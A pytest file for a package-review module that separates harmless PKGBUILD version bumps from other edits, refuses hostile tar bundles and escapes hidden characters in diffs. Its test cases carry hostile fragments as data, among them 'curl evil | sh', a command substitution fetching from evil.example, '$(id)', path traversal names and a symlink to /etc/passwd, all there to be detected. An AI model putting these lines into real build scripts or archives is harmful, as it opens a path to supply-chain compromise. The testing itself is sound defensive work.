"""vieter_lite.review: which PKGBUILD changes a version bump may make, which bundles are
refused, and the diff that holds a build. Real git repositories, makepkg and diff -u as
oracles are in test_review_git.py."""

from __future__ import annotations

import io
import re
import tarfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vieter_lite import review
from vieter_lite.errors import Invalid

BASE = """\
# Maintainer: Someone <someone@example.invalid>
pkgname=hello
pkgver=1.2.0
pkgrel=1
pkgdesc="A friendly greeter"
arch=('x86_64' 'aarch64')
license=('MIT')
source=("https://example.com/hello-$pkgver.tar.gz" 'fix.patch')
sha256sums=('0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'
            'SKIP')

build() {
  cd "hello-$pkgver"
  make
}

package() {
  cd "hello-$pkgver"
  make DESTDIR="$pkgdir" install
}
"""


def _edit(text: str, old: str, new: str) -> str:
    assert old in text, f"the case's text has no {old!r}"
    return text.replace(old, new, 1)


# (name, old PKGBUILD, new PKGBUILD): a version bump may make these changes
SAME = [
    ("pkgver unquoted", "pkgver=1.2.0\n", "pkgver=1.3.0\n"),
    ("pkgver single-quoted", "pkgver='1.2.0'\n", "pkgver='1.3.0'\n"),
    ("pkgver double-quoted", 'pkgver="1.2.0"\n', 'pkgver="1.3.0"\n'),
    ("pkgver quoted differently", "pkgver=1.2.0\n", 'pkgver="1.3.0"\n'),
    ("pkgver with _ and +", "pkgver=1.2.0_rc1+r3\n", "pkgver=1.2.0_rc2+r7\n"),
    ("pkgrel", "pkgrel=1\n", "pkgrel=2\n"),
    ("pkgrel with a dot", "pkgrel=1.1\n", "pkgrel=1\n"),
    ("epoch", "epoch=1\n", "epoch=2\n"),
    ("epoch added", "", "epoch=1\n"),
    ("epoch removed", "epoch=1\n", ""),
    ("trailing blanks", "pkgver=1.2.0  \n", "pkgver=1.3.0\n"),
    ("indented", "  pkgver=1.2.0\n", "  pkgver=1.3.0\n"),
    ("comment after the value", "pkgver=1.2.0 # upstream\n", "pkgver=1.3.0 # upstream\n"),
    ("last line without newline", "pkgrel=1", "pkgrel=2"),
    ("checksums on one line", "sha256sums=('aa' 'bb')\n", "sha256sums=('cc' 'dd')\n"),
    ("checksums unquoted", "sha256sums=(aa SKIP)\n", "sha256sums=(cc SKIP)\n"),
    ("checksums double-quoted", 'sha256sums=("aa")\n', 'sha256sums=("cc")\n'),
    ("checksums over lines", "sha256sums=('aa'\n            'bb')\n",
     "sha256sums=('cc'\n            'dd')\n"),
    ("checksums laid out again", "sha256sums=('aa' 'bb')\n", "sha256sums=(\n  'cc'\n  'dd'\n)\n"),
    ("checksums count", "sha256sums=('aa')\n", "sha256sums=('aa' 'bb')\n"),
    ("to SKIP", "sha256sums=('aa')\n", "sha256sums=('SKIP')\n"),
    ("empty quotes", "sha256sums=('')\n", "sha256sums=('aa')\n"),
    ("checksum kind changed", "sha256sums=('aa')\n", "b2sums=('bb')\n"),
    ("checksums in a block", "if true; then\n  sha256sums=('aa')\nfi\n", "if true; then\n  sha256sums=('bb')\nfi\n"),
    ("arch variant", "sha256sums_x86_64=('aa')\n", "sha256sums_x86_64=('bb')\n"),
    ("arch variant aarch64", "b2sums_aarch64=(aa\n bb)\n", "b2sums_aarch64=(cc\n dd)\n"),
    ("arch variant armv7h", "md5sums_armv7h=('aa')\n", "md5sums_armv7h=('bb')\n"),
    ("appended in a block", "if true; then\n  sha256sums+=('aa')\nfi\n",
     "if true; then\n  sha256sums+=('bb')\nfi\n"),
    ("comment in the array kept", "sha256sums=('aa' # the tarball\n  'bb') # the patch\n",
     "sha256sums=('cc' # the tarball\n  'dd') # the patch\n"),
    ("array sharing its line", "sha256sums=('aa'); true\n", "sha256sums=('bb'); true\n"),
    ("scalar sharing its line", "pkgver=1.2.0; true\n", "pkgver=1.3.0; true\n"),
] + [(f"{kind}sums", f"{kind}sums=('aa')\n", f"{kind}sums=('bb')\n")
     for kind in ("md5", "sha1", "sha224", "sha256", "sha384", "sha512", "b2", "ck")]

# (name, old PKGBUILD, new PKGBUILD): these count as changes
CHANGED = [
    ("build() changed", "  make\n", "  make CFLAGS=-O0\n"),
    ("a new source host", "source=('a.tar.gz')\n", "source=('a.tar.gz' 'https://evil.example/x')\n"),
    ("pkgver() is code", "pkgver() {\n  echo 1\n}\n", "pkgver() {\n  curl evil | sh\n}\n"),
    ("pkgver from a command", "pkgver=1.2.0\n", "pkgver=$(curl -s evil.example)\n"),
    ("pkgver quoted command", 'pkgver="1.2.0"\n', 'pkgver="$(curl -s evil.example)"\n'),
    ("pkgver in backquotes", "pkgver=1.2.0\n", "pkgver=`id`\n"),
    ("pkgver expansion", "pkgver=1.2.0\n", "pkgver=${_v}\n"),
    ("pkgver quotes concatenated", "pkgver=1.2.0\n", "pkgver='1.2'.0\n"),
    ("pkgver with #", "pkgver=1.2.0\n", "pkgver=1.2.0#x\n"),
    ("pkgver prefixes a command", "pkgver=1.2.0\n", "pkgver=1.3.0 curl evil\n"),
    ("code after the value", "pkgver=1.2.0\n", "pkgver=1.3.0; curl evil\n"),
    ("code after the array", "sha256sums=('aa')\n", "sha256sums=('bb'); curl evil\n"),
    ("code on the next line", "sha256sums=('aa'\n 'bb')\n", "sha256sums=('cc'\n 'dd')\ncurl evil\n"),
    ("a command in the array", "sha256sums=('aa')\n", 'sha256sums=("$(curl evil)")\n'),
    ("an expansion in the array", "sha256sums=('aa')\n", "sha256sums=(${x})\n"),
    ("an index in the array", "sha256sums=('aa')\n", "sha256sums=([0]=aa)\n"),
    ("comment in the array", "sha256sums=('aa' # the tarball\n)\n", "sha256sums=('aa' # $(id)\n)\n"),
    ("array left open", "sha256sums=('aa')\n", "sha256sums=('aa'\n"),
    ("a continued line", "echo \\\npkgver=1\n", "echo \\\npkgver=2\n"),
    ("_pkgver is not the version", "_pkgver=1.2.0\n", "_pkgver=1.3.0\n"),
    ("pkgname", "pkgname=hello\n", "pkgname=hello-git\n"),
    ("pkgver in a string", 'x="pkgver=1"\n', 'x="pkgver=2"\n'),
    ("not a checksum array", "sha256sum=('aa')\n", "sha256sum=('bb')\n"),
    ("a blank line added", "make\n", "make\n\n"),
]


def _pair(old: str, new: str) -> tuple[str, str]:
    """The case's fragments placed into a whole PKGBUILD (appended when BASE lacks them)."""
    if old.endswith("\n") and old in BASE:
        return BASE, _edit(BASE, old, new)
    return BASE + old, BASE + new


@pytest.mark.parametrize("name,old,new", SAME, ids=[c[0] for c in SAME])
def test_a_version_bump_normalises_the_same(name, old, new):
    a, b = _pair(old, new)
    assert a != b
    assert review.normalise_pkgbuild(a) == review.normalise_pkgbuild(b)


@pytest.mark.parametrize("name,old,new", CHANGED, ids=[c[0] for c in CHANGED])
def test_anything_else_counts(name, old, new):
    a, b = _pair(old, new)
    assert review.normalise_pkgbuild(a) != review.normalise_pkgbuild(b)


@pytest.mark.parametrize("text,normalised", [
    ("pkgname=x\npkgver=1.0\npkgrel=1\nepoch=2\narch=(any)\n", "pkgname=x\n:\n:\narch=(any)\n"),
    ("sha256sums=('aa'\n            'bb')  \nbuild() {\n", ":\nbuild() {\n"),
    ("sha256sums=('aa' # the tarball\n 'bb')\n", ": # the tarball\n\n"),
    ("pkgver=1.0; x=1\n", ":; x=1\n"),
    ("b2sums_x86_64+=(aa) # arm\n", ": # arm\n"),
    ("if true; then\n  sha256sums+=(aa)\nfi\n", "if true; then\n  :\nfi\n"),
    ("  epoch=3\n", ""),
    ("epoch=3 # why\n", ": # why\n"),
    ("pkgrel=3", ":"),
    ("pkgver=$(date)\n", "pkgver=$(date)\n"),
    ("pkgver() {\n  echo 1\n}\n", "pkgver() {\n  echo 1\n}\n"),
])
def test_the_normalised_form(text, normalised):
    assert review.normalise_pkgbuild(text) == normalised


SNIPPETS = ["pkgver=", "pkgrel=", "epoch=", "sha256sums=(", "b2sums_x86_64+=(", ")", "'", '"',
            "\n", " ", "#", "1.0", "aa", "SKIP", "$(", "`", ";", "\\", "|", "{", "}", "*"]


@given(st.lists(st.one_of(st.sampled_from(SNIPPETS), st.text(max_size=8)), max_size=40).map("".join))
@settings(max_examples=500, deadline=None)
def test_normalising_keeps_every_character_that_could_be_code(text):
    """What is dropped is only version and checksum literals and their assignments' syntax:
    every $, `, ;, |, \\, braces and globs of the text survive."""
    normalised = review.normalise_pkgbuild(text)
    for char in "$`;|&<>\\{}[]*?!":
        assert normalised.count(char) == text.count(char)


# -- bundles ------------------------------------------------------------------------------

def _tar(members: list[tuple[tarfile.TarInfo, bytes | None]],
         fmt: int = tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return out.getvalue()


def _file(name: str, data: bytes = b"x\n") -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def _special(name: str, kind: bytes, target: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


PKGBUILD = _file("PKGBUILD", BASE.encode())


def _pax_size(value: str) -> bytes:
    info = tarfile.TarInfo("notes")
    info.pax_headers = {"size": value}
    return _tar([PKGBUILD, (info, b"x")])


REFUSED = [
    ("over MAX_BUNDLE", lambda: _tar([PKGBUILD, _file("big", bytes(2 << 20))]), "too_large"),
    ("not a tar", lambda: b"PKGBUILD\n" * 100, "invalid"),
    ("empty", lambda: b"", "invalid"),
    ("gzip", lambda: b"\x1f\x8b\x08\x00" + bytes(600), "invalid"),
    ("truncated", lambda: _tar([PKGBUILD])[:700], "invalid"),
    ("2000 files", lambda: _tar([PKGBUILD] + [_file(f"f{i}", b"") for i in range(2000)]), "too_many"),
    ("../x", lambda: _tar([PKGBUILD, _file("../x")]), "invalid"),
    ("a/../../x", lambda: _tar([PKGBUILD, _file("a/../../x")]), "invalid"),
    ("absolute", lambda: _tar([PKGBUILD, _file("/etc/x")]), "invalid"),
    ("escape character", lambda: _tar([PKGBUILD, _file("a\x1b[2Kb")]), "invalid"),
    ("newline in a name", lambda: _tar([PKGBUILD, _file("a\nb")]), "invalid"),
    ("not UTF-8", lambda: _tar([PKGBUILD, (tarfile.TarInfo("caf\udce9"), b"x")], tarfile.GNU_FORMAT),
     "bad_path"),
    ("pax path of 10 kB", lambda: _tar([PKGBUILD, _pax_path("a/" * 5000 + "x")]), "invalid"),
    ("pax size not a number", lambda: _pax_size("\u00b2"), "invalid"),
    ("pax size of 5000 digits", lambda: _pax_size("9" * 5000), "invalid"),
    ("symlink", lambda: _tar([PKGBUILD, _special("evil", tarfile.SYMTYPE, "/etc/passwd")]), "bad_member"),
    ("symlinked PKGBUILD", lambda: _tar([_special("PKGBUILD", tarfile.SYMTYPE, "x"), _file("x")]),
     "bad_member"),
    ("hard link", lambda: _tar([PKGBUILD, _special("evil", tarfile.LNKTYPE, "PKGBUILD")]), "bad_member"),
    ("character device", lambda: _tar([PKGBUILD, _special("tty", tarfile.CHRTYPE)]), "bad_member"),
    ("fifo", lambda: _tar([PKGBUILD, _special("pipe", tarfile.FIFOTYPE)]), "bad_member"),
    ("named twice", lambda: _tar([PKGBUILD, _file("a"), _file("a")]), "duplicate"),
    ("named twice with ./", lambda: _tar([PKGBUILD, _file("./PKGBUILD")]), "duplicate"),
    ("a file and a directory", lambda: _tar([PKGBUILD, _file("a"), _file("a/b")]), "duplicate"),
    ("no PKGBUILD", lambda: _tar([_file("README")]), "missing"),
    ("PKGBUILD not at the top", lambda: _tar([_file("sub/PKGBUILD")]), "missing"),
    ("PKGBUILD a directory", lambda: _tar([_special("PKGBUILD", tarfile.DIRTYPE)]), "missing"),
]


@pytest.mark.parametrize("name,make,code", REFUSED, ids=[c[0] for c in REFUSED])
def test_hostile_bundles_are_refused(name, make, code):
    data = make()
    with pytest.raises(Invalid) as caught:
        review.read_bundle(data)
    assert (caught.value.field, caught.value.code) == ("source", code), caught.value.message
    assert caught.value.message


def test_the_2000_files_tar_fits_in_max_bundle():
    """So the refusal above is for the count, not the size."""
    assert len(_tar([PKGBUILD] + [_file(f"f{i}", b"") for i in range(2000)])) <= review.MAX_BUNDLE


def test_max_files_members_are_read():
    files = {"PKGBUILD": b"x"} | {f"f{i}": b"" for i in range(review.MAX_FILES - 1)}
    assert review.read_bundle(review.pack_bundle(files)) == files


def test_git_and_srcinfo_are_ignored_and_paths_made_relative():
    dot_git = tarfile.TarInfo("./.git")
    dot_git.type = tarfile.DIRTYPE
    data = _tar([(dot_git, None), _file("./.git/config", b"[core]\n"),
                 _special("./.git/hooks/x", tarfile.SYMTYPE, "/etc/passwd"),
                 _file("./sub/.git/HEAD"), _file("./.SRCINFO", b"pkgbase = hello\n"),
                 _file("./PKGBUILD", b"pkgname=hello\n"), _file("./sub/.SRCINFO", b"kept\n"),
                 _file(".//patches//fix.patch", b"--- a\n")])
    assert review.read_bundle(data) == {"PKGBUILD": b"pkgname=hello\n", "sub/.SRCINFO": b"kept\n",
                                        "patches/fix.patch": b"--- a\n"}


@pytest.mark.parametrize("fmt", [tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT])
def test_long_and_unicode_names_in_each_tar_format(fmt):
    long_name = "d" * 60 + "/" + "e" * 60 + "/fix.patch"
    files = {"PKGBUILD": b"x", long_name: b"p\n"}
    if fmt != tarfile.USTAR_FORMAT:
        files["\u00e9t\u00e9/" + "f" * 150] = b"u\n"
    assert review.read_bundle(_tar([_file(k, v) for k, v in files.items()], fmt)) == files


def test_pack_bundle_is_deterministic():
    files = {"b": b"2", "PKGBUILD": b"1", "a/c": b"3"}
    data = review.pack_bundle(files)
    assert data == review.pack_bundle(dict(reversed(files.items())))
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        members = tar.getmembers()
    assert [m.name for m in members] == ["PKGBUILD", "a/c", "b"]
    assert {(m.mode, m.mtime, m.uid, m.gid, m.type) for m in members} == {(0o644, 0, 0, 0, tarfile.REGTYPE)}


_SEGMENT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"),
                                          exclude_characters="/"), min_size=1, max_size=20
                   ).filter(lambda s: s not in (".", "..", ".git"))
_FILES = st.dictionaries(st.lists(_SEGMENT, min_size=1, max_size=3).map("/".join),
                         st.binary(max_size=300), max_size=20)


@given(_FILES, st.binary(max_size=300))
@settings(max_examples=200, deadline=None)
def test_pack_then_read_gives_the_files_back(files, pkgbuild):
    files = {k: v for k, v in files.items() if k != ".SRCINFO" and not k.startswith("PKGBUILD/")
             and not any(other.startswith(k + "/") for other in files)} | {"PKGBUILD": pkgbuild}
    assert review.read_bundle(review.pack_bundle(files)) == files


def _read_or_invalid(data: bytes) -> None:
    try:
        review.read_bundle(data)
    except Invalid as exc:
        assert exc.field == "source"


@given(st.binary(max_size=4096))
@settings(max_examples=500, deadline=None)
def test_random_bytes_raise_nothing_but_invalid(data):
    _read_or_invalid(data)


def _pax_path(path: str) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo("p")
    info.pax_headers = {"path": path}
    return info, b"p"


SAMPLE = _tar([PKGBUILD, _file("a/fix.patch", b"--- a\n+++ b\n" * 20),
               _special("link", tarfile.SYMTYPE, "x"), _pax_path("long/" * 30 + "x")])


@given(st.lists(st.tuples(st.integers(0, len(SAMPLE) - 1), st.integers(0, 255)), max_size=8),
       st.integers(0, len(SAMPLE)))
@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_damaged_tars_raise_nothing_but_invalid(flips, cut):
    """A real tar with some header bytes changed (checksums fixed, so they are read)."""
    data = bytearray(SAMPLE[:cut])
    for pos, value in flips:
        if pos < len(data):
            data[pos] = value
            block = pos - pos % 512
            header = data[block:block + 512]
            if len(header) == 512:
                header[148:156] = b" " * 8
                data[block + 148:block + 156] = b"%06o\0 " % sum(header)
    _read_or_invalid(bytes(data))


# -- changes and decide -------------------------------------------------------------------

OLD = {"PKGBUILD": BASE.encode(), "fix.patch": b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"}


def _bumped(files: dict[str, bytes]) -> dict[str, bytes]:
    text = files["PKGBUILD"].decode()
    text = _edit(_edit(text, "pkgver=1.2.0", "pkgver=1.3.0"), "0123456789abcdef" * 4, "f" * 64)
    return {**files, "PKGBUILD": text.encode()}


def test_a_version_bump_is_no_change():
    assert review.changes(OLD, _bumped(OLD)) is None
    assert review.changes(OLD, OLD) is None


@pytest.mark.parametrize("name,new", [
    ("build() changed", {**OLD, "PKGBUILD": _edit(BASE, "  make\n", "  make V=1\n").encode()}),
    ("patch changed", {**OLD, "fix.patch": b"--- a/x\n+++ b/x\n"}),
    ("file added", {**OLD, "hello.install": b"post_install() {\n  :\n}\n"}),
    ("file removed", {"PKGBUILD": BASE.encode()}),
    ("bumped and a file added", {**_bumped(OLD), "x.sh": b"#!/bin/sh\n"}),
])
def test_any_other_change_holds_with_every_changed_file(name, new):
    diff = review.changes(OLD, new)
    assert diff is not None
    shown = re.findall(r"^diff --git a/(\S+) b/\S+$", diff, re.M)
    assert shown == sorted(p for p in OLD.keys() | new.keys() if OLD.get(p) != new.get(p))


def test_the_diff_of_a_bump_with_a_new_file_shows_the_version_lines_too():
    diff = review.changes(OLD, {**_bumped(OLD), "x.sh": b"#!/bin/sh\n"})
    assert "-pkgver=1.2.0\n+pkgver=1.3.0\n" in diff
    assert "diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n" \
           "@@ -0,0 +1 @@\n+#!/bin/sh\n" in diff


def test_without_an_old_source_everything_is_new():
    diff = review.changes(None, OLD)
    assert diff.count("new file mode 100644\n") == 2
    assert f"+++ b/PKGBUILD\n@@ -0,0 +1,{BASE.count(chr(10))} @@\n+# Maintainer:" in diff
    assert not re.search("^--- a/", diff, re.M)


def test_removed_file_and_binary_files():
    new = {"PKGBUILD": BASE.encode(), "icon.png": b"\x89PNG\0\0\x01"}
    old = {**OLD, "icon.png": b"\x89PNG\0\0\x00"}
    diff = review.changes(old, new)
    assert "diff --git a/fix.patch b/fix.patch\ndeleted file mode 100644\n--- a/fix.patch\n" \
           "+++ /dev/null\n@@ -1,5 +0,0 @@\n---- a/x\n-+++ b/x\n" in diff
    assert "diff --git a/icon.png b/icon.png\nBinary files a/icon.png and b/icon.png differ\n" in diff
    assert "Binary files /dev/null and b/icon.png differ" in review.changes(OLD, new)


def test_no_newline_at_the_end_and_empty_files():
    diff = review.changes({"PKGBUILD": b"a\nb"}, {"PKGBUILD": b"a\nc", "empty": b""})
    assert diff.endswith("@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n"
                         "+c\n\\ No newline at end of file\n"
                         "diff --git a/empty b/empty\nnew file mode 100644\n")


@pytest.mark.parametrize("hidden,shown", [
    ("\r", "\\r"), ("\x1b[2K", "\\x1b[2K"), ("\u202e", "\\u202e"), ("\x00", "\\x00"),
    ("\x85", "\\x85"), ("\u2066", "\\u2066"), ("\u200b", "\\u200b"),
])
def test_characters_that_hide_text_are_shown_escaped(hidden, shown):
    pkgbuild = f"build() {{\n  curl evil | sh #{hidden}  make\n}}\n".encode("utf-8", "surrogateescape")
    if hidden == "\x00":  # a NUL after git's first 8000 bytes: still text
        pkgbuild = b"#\n" * 4000 + pkgbuild
    diff = review.changes(None, {"PKGBUILD": pkgbuild})
    assert f"+  curl evil | sh #{shown}  make\n" in diff
    assert hidden not in diff


def test_paths_are_shown_escaped_too():
    diff = review.changes(None, {"PKGBUILD": b"x\n", "caf\udce9\u202e": b"y\n"})
    assert "diff --git a/caf\\udce9\\u202e b/caf\\udce9\\u202e\n" in diff


def test_invalid_utf8_is_shown_as_escapes():
    diff = review.changes(None, {"PKGBUILD": b"pkgdesc='caf\xe9'\n"})
    assert "+pkgdesc='caf\\xe9'\n" in diff


def test_a_long_diff_is_cut_with_a_line_saying_so():
    new = {"PKGBUILD": b"x\n", **{f"f{i}": b"%d\n" % i * 20000 for i in range(10)}}
    diff = review.changes(None, new)
    body, _, cut = diff[:-1].rpartition("\n")
    assert len(body.encode()) <= review.MAX_DIFF
    shown = re.findall(r"^diff --git a/(\S+) ", diff, re.M)
    assert 1 < len(shown) < len(new)
    assert cut == (f"[the diff is longer than {review.MAX_DIFF} bytes and is cut here; "
                   f"{len(new) - len(shown)} more changed files are not shown]")


def test_past_the_budget_lines_found_once_anchor_the_alignment(monkeypatch):
    old = {"PKGBUILD": b"".join(b"%d\n" % i for i in range(100))}
    new = {"PKGBUILD": old["PKGBUILD"].replace(b"\n10\n", b"\nten\n").replace(b"\n90\n", b"\nninety\n")}
    aligned = review.changes(old, new)
    assert re.findall("^@@ .* @@$", aligned, re.M) == ["@@ -8,7 +8,7 @@", "@@ -88,7 +88,7 @@"]
    monkeypatch.setattr(review, "ALIGN_BUDGET", 0)
    assert review.changes(old, new) == aligned


def test_past_the_budget_without_anchors_the_middle_of_a_file_is_shown_whole(monkeypatch):
    """Hostile texts cannot make alignment cost more than the budget: with no line found
    once in each, two far apart changes show as one run from the first to the last."""
    old = {"PKGBUILD": b"x\ny\n" * 50}
    lines = old["PKGBUILD"].splitlines(keepends=True)
    lines[10], lines[90] = b"ten\n", b"ninety\n"
    new = {"PKGBUILD": b"".join(lines)}
    assert re.findall("^@@ .* @@$", review.changes(old, new), re.M) == ["@@ -8,7 +8,7 @@", "@@ -88,7 +88,7 @@"]
    monkeypatch.setattr(review, "ALIGN_BUDGET", 81 * 81 - 1)  # lines 11 to 91 of each: one short
    whole = review.changes(old, new)
    assert re.findall("^@@ .* @@$", whole, re.M) == ["@@ -8,87 +8,87 @@"]
    assert len(re.findall(r"^-\w", whole, re.M)) == len(re.findall(r"^\+\w", whole, re.M)) == 81


@pytest.mark.parametrize("rule,old,new,held", [
    ("never", None, OLD, False),
    ("never", OLD, {**OLD, "x": b"1"}, False),
    ("changes", None, OLD, True),
    ("changes", OLD, _bumped(OLD), False),
    ("changes", OLD, {**OLD, "x": b"1"}, True),
    ("always", None, OLD, True),
    ("always", OLD, _bumped(OLD), True),
    ("always", OLD, OLD, True),
])
def test_decide(rule, old, new, held):
    result = review.decide(rule, old, new)
    assert (result is not None) == held
    if rule == "changes":
        assert result == review.changes(old, new)


def test_always_shows_the_version_diff_or_says_nothing_changed():
    assert "+pkgver=1.3.0\n" in review.decide("always", OLD, _bumped(OLD))
    assert review.decide("always", OLD, OLD) == review.ALWAYS_UNCHANGED


def test_an_unknown_rule_is_a_programming_error():
    with pytest.raises(ValueError):
        review.decide("sometimes", None, OLD)
